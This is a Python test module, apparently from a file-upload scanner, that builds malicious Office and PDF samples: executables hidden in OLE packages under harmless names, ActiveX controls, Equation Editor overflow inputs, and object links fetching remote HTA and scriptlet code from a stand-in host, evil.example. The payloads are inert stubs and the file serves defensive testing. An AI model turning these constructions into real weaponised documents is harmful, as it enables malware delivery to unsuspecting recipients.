"""Objects embedded in documents: packages, programs, controls, links and the old equation editor."""

from __future__ import annotations

from collections.abc import Callable

from tests.attacks.attack import Attack
from tests.attacks.macros import ACTIVE, DOC, LETTER, XLS
from tests.attacks.ole_builder import (
    BUTTON,
    EQUATION,
    FLASH,
    OVERLONG_FONT,
    PACKAGE,
    Tree,
    com_object,
    compound,
    equation,
    native,
    package,
    sheet_name,
    word,
    workbook,
)
from tests.attacks.ooxml_builder import DOCX, XLSX, docx, paragraph, xlsx
from tests.attacks.pdf_builder import pdf

PROGRAM = b"MZ\x90\x00" + bytes(56) + b"\x80\x00\x00\x00" + bytes(64) + b"PE\x00\x00" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
SHORTCUT = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)
URL_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
SCRIPT_MONIKER = bytes.fromhex("c7b0abec197fd211978e0000f8757e2a")
_UNKNOWN = "11111111-2222-3333-4444-555555555555"


def _doc(streams: Tree, clsid: str) -> bytes:
    return word(LETTER, {"ObjectPool": {"_1234567890": streams}}, {"ObjectPool/_1234567890": clsid})


def _docx(content: bytes, name: str = "oleObject1.bin", program: str = "Package") -> bytes:
    body = paragraph(f'<w:r><w:object><o:OLEObject Type="Embed" ProgID="{program}" r:id="rId1"/></w:object></w:r>')
    return docx(body, [("oleObject", f"embeddings/{name}", False)], {f"word/embeddings/{name}": content})


def _package(name: str, content: bytes) -> Tree:
    return {"\x01Ole10Native": native(name, content), "\x01CompObj": com_object("Package")}


def _url_link() -> bytes:
    """What an object linked to an address keeps of it, as the exploits of 2017 had it."""
    return (
        b"\x01\x00\x00\x02\x01"
        + bytes(11)
        + URL_MONIKER
        + b"\x60\x00\x00\x00"
        + "http://evil.example/a.hta".encode("utf-16-le")
    )


def _script_link() -> bytes:
    return b"\x01\x00\x00\x02\x01" + bytes(11) + SCRIPT_MONIKER + "script:http://evil.example/a.sct".encode("utf-16-le")


def _control_part() -> bytes:
    links = [("control", "activeX/activeX1.xml", False)]
    xml = (
        '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"'
        f' ax:classid="{{{BUTTON}}}" ax:persistence="persistStreamInit"/>'
    )
    return docx("", links, {"word/activeX/activeX1.xml": xml.encode()})


def _native_after_equation() -> Tree:
    return {
        "\x01Ole10Native": b"\x00\x02\x00\x00" + OVERLONG_FONT.ljust(512, b"\x90"),
        "\x01CompObj": com_object("Equation.3"),
    }


def _attack(name: str, file_name: str, declared: str, make: Callable[[], bytes]) -> Attack:
    return Attack(name, "ole", file_name, declared, make, ACTIVE)


ATTACKS: tuple[Attack, ...] = (
    _attack("doc-package-with-program", "cv.doc", DOC, lambda: _doc(_package("bao cao.exe", PROGRAM), PACKAGE)),
    _attack(
        "doc-package-with-program-under-pdf-name",
        "cv.doc",
        DOC,
        lambda: _doc(_package("bao cao.pdf", PROGRAM), PACKAGE),
    ),
    _attack(
        "doc-package-with-script", "cv.doc", DOC, lambda: _doc(_package("bao cao.js", b"WScript.Echo(1)"), PACKAGE)
    ),
    _attack(
        "doc-package-with-batch-under-text-name",
        "cv.doc",
        DOC,
        lambda: _doc(_package("a.txt", b"@echo off\r\ncalc"), PACKAGE),
    ),
    _attack("doc-package-of-any-file", "cv.doc", DOC, lambda: _doc(_package("du lieu.dat", b"so lieu 1 2 3"), PACKAGE)),
    _attack(
        "doc-package-without-header",
        "cv.doc",
        DOC,
        lambda: _doc({"\x01Ole10Native": b"\x40\x00\x00\x00" + PROGRAM}, PACKAGE),
    ),
    _attack("doc-object-of-unknown-class", "cv.doc", DOC, lambda: _doc({"CONTENTS": b"abc" * 100}, _UNKNOWN)),
    _attack("doc-flash", "cv.doc", DOC, lambda: _doc({"Contents": b"fUfU" + bytes(60)}, FLASH)),
    _attack("doc-control", "cv.doc", DOC, lambda: _doc({"\x03OCXNAME": b"C\0", "contents": bytes(40)}, BUTTON)),
    _attack("doc-object-linked-to-address", "cv.doc", DOC, lambda: _doc({"\x01Ole": _url_link()}, _UNKNOWN)),
    _attack("doc-object-linked-to-script", "cv.doc", DOC, lambda: _doc({"\x01Ole": _script_link()}, _UNKNOWN)),
    _attack(
        "doc-equation-overlong-font",
        "cv.doc",
        DOC,
        lambda: _doc({"Equation Native": equation(OVERLONG_FONT)}, EQUATION),
    ),
    _attack("doc-equation-in-native-stream", "cv.doc", DOC, lambda: _doc(_native_after_equation(), EQUATION)),
    _attack(
        "doc-equation-huge-matrix",
        "cv.doc",
        DOC,
        lambda: _doc({"Equation Native": equation(b"\x0a\x05\x01\x01\x01\x1c\x4c" + b"A" * 90)}, EQUATION),
    ),
    _attack(
        "docx-equation-empty",
        "cv.docx",
        DOCX,
        lambda: _docx(compound({"x": b"1"}, {"": EQUATION}), program="Word.Document.8"),
    ),
    _attack(
        "docx-equation-cut",
        "cv.docx",
        DOCX,
        lambda: _docx(compound({"Equation Native": equation(b"\x0a\x01\x02\x83")[:-2]}, {"": EQUATION})),
    ),
    _attack(
        "xlsx-equation-overlong-font",
        "b.xlsx",
        XLSX,
        lambda: xlsx(
            parts={
                "xl/worksheets/_rels/sheet1.xml.rels": b"",
                "xl/embeddings/oleObject1.bin": compound({"Equation Native": equation(OVERLONG_FONT)}, {"": EQUATION}),
            }
        ),
    ),
    _attack("docx-package-with-program", "cv.docx", DOCX, lambda: _docx(package("phu luc.exe", PROGRAM))),
    _attack("docx-package-with-shortcut", "cv.docx", DOCX, lambda: _docx(package("phu luc.docx", SHORTCUT))),
    _attack(
        "docx-package-with-turned-name",
        "cv.docx",
        DOCX,
        lambda: _docx(package("bao cao ket qua.hta", b"<html></html>")),
    ),
    _attack("docx-part-that-is-a-program", "cv.docx", DOCX, lambda: _docx(PROGRAM, "oleObject1.bin")),
    _attack(
        "docx-part-that-is-a-linux-program", "cv.docx", DOCX, lambda: _docx(ELF, "phu luc.pdf", "AcroExch.Document")
    ),
    _attack(
        "docx-embedding-pdf-with-script",
        "cv.docx",
        DOCX,
        lambda: _docx(
            compound(
                {"CONTENTS": pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")},
                {"": "B801CA65-A1FC-11D0-85AD-444553540000"},
            ),
            program="AcroExch.Document.DC",
        ),
    ),
    _attack(
        "docx-picture-that-is-a-program",
        "cv.docx",
        DOCX,
        lambda: docx("", [("image", "media/image1.png", False)], {"word/media/image1.png": PROGRAM}),
    ),
    _attack("docx-control", "cv.docx", DOCX, _control_part),
    _attack(
        "docx-altchunk-html",
        "cv.docx",
        DOCX,
        lambda: docx("", [("aFChunk", "chunk.htm", False)], {"word/chunk.htm": b"<html><script>1</script></html>"}),
    ),
    _attack(
        "xls-package-with-program",
        "b.xls",
        XLS,
        lambda: workbook(sheet_name("Trang1"), more={"MBD0001A2B3": _package("ke hoach.scr", PROGRAM)}),
    ),
    _attack(
        "docx-package-in-package",
        "cv.docx",
        DOCX,
        lambda: _docx(package("ngoai.docx", _docx(package("trong.exe", PROGRAM)))),
    ),
)
